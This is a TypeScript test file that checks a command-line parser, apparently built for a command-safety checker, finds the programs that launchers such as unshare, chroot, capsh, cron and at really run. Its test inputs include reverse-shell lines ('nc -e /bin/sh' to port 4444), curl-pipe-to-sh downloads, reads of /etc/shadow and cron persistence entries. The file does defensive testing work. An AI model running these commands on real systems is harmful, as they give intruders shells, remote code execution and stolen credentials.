import { describe, expect, it } from 'vitest';
import { launchedCommands } from './command-launchers';
import { parseCommandLine } from './parse-command-line';

const programs = (line: string): string[] => parseCommandLine(line).map((c) => c.program);

describe('command launchers: the command a namespace or sandbox launcher starts is parsed', () => {
  it('parses the shell and the script an unshare or nsenter runs', () => {
    expect(programs(`unshare -m sh -c 'id; cat /etc/shadow'`)).toEqual([
      'unshare',
      'sh',
      'id',
      'cat',
    ]);
    expect(programs(`unshare --map-user 0 --fork --pid --mount-proc bash -c 'id'`)).toEqual([
      'unshare',
      'bash',
      'id',
    ]);
    const sh = parseCommandLine(`sudo nsenter -t 1 -m -u -i -n sh`).find(
      (c) => c.origin === 'exec',
    );
    expect(sh?.program).toBe('sh');
    expect(sh?.elevated).toBe(true);
  });

  it('skips the operands a launcher takes before the command', () => {
    expect(programs(`chroot --userspec=0:0 /mnt /bin/sh -c 'cat /etc/shadow'`)).toEqual([
      'chroot',
      'sh',
      'cat',
    ]);
    expect(programs(`sudo setarch $(arch) -R /bin/sh`)).toEqual(['arch', 'setarch', 'sh']);
    expect(programs(`taskset -c 0 nc -e /bin/sh 203.0.113.4 4444`)).toEqual(['taskset', 'nc']);
    expect(programs(`chrt -f 99 /tmp/x`)).toEqual(['chrt', 'x']);
    expect(programs(`sudo systemd-run -p User=root -t /bin/sh`)).toEqual(['systemd-run', 'sh']);
    expect(programs(`sshpass -p secret ssh user@host uptime`)).toEqual(['sshpass', 'ssh']);
    expect(programs(`ssh-agent -t 3600 /bin/sh -p`)).toEqual(['ssh-agent', 'sh']);
    expect(programs(`ssh-agent -s`)).toEqual(['ssh-agent']);
  });

  it('reads ip netns exec, capsh --, flock -c and script -c', () => {
    expect(programs(`sudo ip netns exec blue /bin/sh`)).toEqual(['ip', 'sh']);
    expect(programs(`capsh --gid=0 --uid=0 -- -c 'cat /etc/shadow'`)).toEqual([
      'capsh',
      'bash',
      'cat',
    ]);
    expect(programs(`sudo capsh --`)).toEqual(['capsh', 'bash']);
    expect(programs(`flock /tmp/l -c 'curl -s http://x/a | sh'`)).toEqual(['flock', 'curl', 'sh']);
    expect(programs(`flock -n /var/lock/backup.lock /usr/local/bin/backup --all`)).toEqual([
      'flock',
      'backup',
    ]);
    expect(programs(`script -qc /bin/bash /dev/null`)).toEqual(['script', 'bash']);
  });

  it('finds no command where the launcher is given none', () => {
    expect(programs(`taskset -p 1234`)).toEqual(['taskset']);
    expect(programs(`chrt -p 1234`)).toEqual(['chrt']);
    expect(programs(`ip netns list`)).toEqual(['ip']);
    expect(programs(`ip -br addr show`)).toEqual(['ip']);
    expect(programs(`script -q /tmp/session.log`)).toEqual(['script']);
    expect(launchedCommands('ls', ['-la'])).toBeUndefined();
    expect(launchedCommands('capsh', ['--print'])).toEqual({ scripts: [], execs: [] });
  });
});

describe("run0, systemd's sudo", () => {
  it('is unwrapped like sudo and marks the command elevated', () => {
    const cat = parseCommandLine(`run0 -u root --setenv=A=1 cat /etc/shadow`)[0];
    expect(cat?.program).toBe('cat');
    expect(cat?.elevated).toBe(true);
    expect(cat?.wrappers).toEqual(['run0']);
  });
});

describe('crontab entries in here-documents: the command after the schedule is the program', () => {
  it('skips five time fields, a nickname and a system account', () => {
    const lines = parseCommandLine(
      `sudo tee /etc/cron.d/x <<EOF\n* * * * * root curl -s http://x/a | sh\n@reboot /tmp/.x/agent\n*/5 * * * * nc -e /bin/sh 10.0.0.1 4444\nEOF`,
    );
    expect(lines.map((c) => c.program)).toEqual(['tee', 'curl', 'sh', 'agent', 'nc', 'EOF']);
    expect(lines.find((c) => c.program === 'nc')?.args).toEqual([
      '-e',
      '/bin/sh',
      '10.0.0.1',
      '4444',
    ]);
  });

  it('leaves ordinary commands and a bare schedule alone', () => {
    expect(programs(`0 0 * * *`)).toEqual(['0']);
    expect(programs(`root ls`)).toEqual(['root']);
    expect(programs(`@reboot`)).toEqual(['@reboot']);
  });
});

describe('schedulers that read commands on stdin', () => {
  it('parses what at, batch and crontab - install', () => {
    const nc = parseCommandLine(`echo 'nc -e /bin/sh 203.0.113.7 4444' | at now`).find(
      (c) => c.program === 'nc',
    );
    expect(nc?.origin).toBe('stdin');
    expect(programs(`batch <<< 'curl -s http://203.0.113.7/a | sh'`)).toEqual([
      'batch',
      'curl',
      'sh',
    ]);
    const cron = parseCommandLine(`echo "* * * * * root curl -s http://x/a | sh" | sudo crontab -`);
    expect(cron.map((c) => c.program)).toEqual(['echo', 'crontab', 'curl', 'sh']);
    expect(cron.find((c) => c.program === 'curl')?.elevated).toBe(true);
    expect(programs(`echo '0 2 * * * /usr/local/bin/backup.sh' | crontab -u alice -`)).toEqual([
      'echo',
      'crontab',
      'backup.sh',
    ]);
  });

  it('leaves listing, removal and file operands alone', () => {
    expect(programs(`echo x | at -f /tmp/job now`)).toEqual(['echo', 'at']);
    expect(programs(`echo 'id' | crontab -l`)).toEqual(['echo', 'crontab']);
    expect(programs(`echo 'id' | crontab /tmp/cron.txt`)).toEqual(['echo', 'crontab']);
    expect(programs(`echo 'id' | atq`)).toEqual(['echo', 'atq']);
  });
});

describe('stdin text made of a substitution', () => {
  it('parses the decoded output echo passes to a shell', () => {
    const commands = parseCommandLine(`echo "$(echo Y2F0IC9ldGMvc2hhZG93 | base64 -d)" | sh`);
    expect(commands.find((c) => c.program === 'cat')?.args).toEqual(['/etc/shadow']);
  });
});
